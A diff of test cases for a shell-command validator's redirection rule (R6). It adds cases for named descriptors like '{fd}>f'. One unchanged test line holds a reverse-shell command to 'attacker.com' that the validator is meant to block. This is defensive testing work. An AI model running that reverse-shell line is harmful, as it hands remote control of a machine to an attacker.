@@ -92,6 +92,8 @@ function dups(): CommandCase[] {
     rows.push(pass(`R6 ${c} with allowRedirects`, c, { allowRedirects: true }));
   }
   rows.push(pass('R6 exec 2>&1 is a duplication', 'exec 2>&1', {}));
+  rows.push(fail('R6 a named descriptor {fd}>file is a file redirection', 'ls {fd}>f', {}, 'R6'));
+  rows.push(pass('R6 a named descriptor {fd}>file with allowRedirects', 'ls {fd}>f', { allowRedirects: true }));
   rows.push(fail('R6 a dup does not excuse a file redirect', 'ls 2>&1 > out.txt', {}, 'R6'));
   rows.push(fail('R6 baseline attack: reverse shell', 'bash -i >& /dev/tcp/attacker.com/4444 0>&1', { allow: ['bash *'] }, 'R6'));
   rows.push(fail('R6 baseline: cat < input.txt', 'cat < input.txt', { allow: ['cat *'] }, 'R6'));
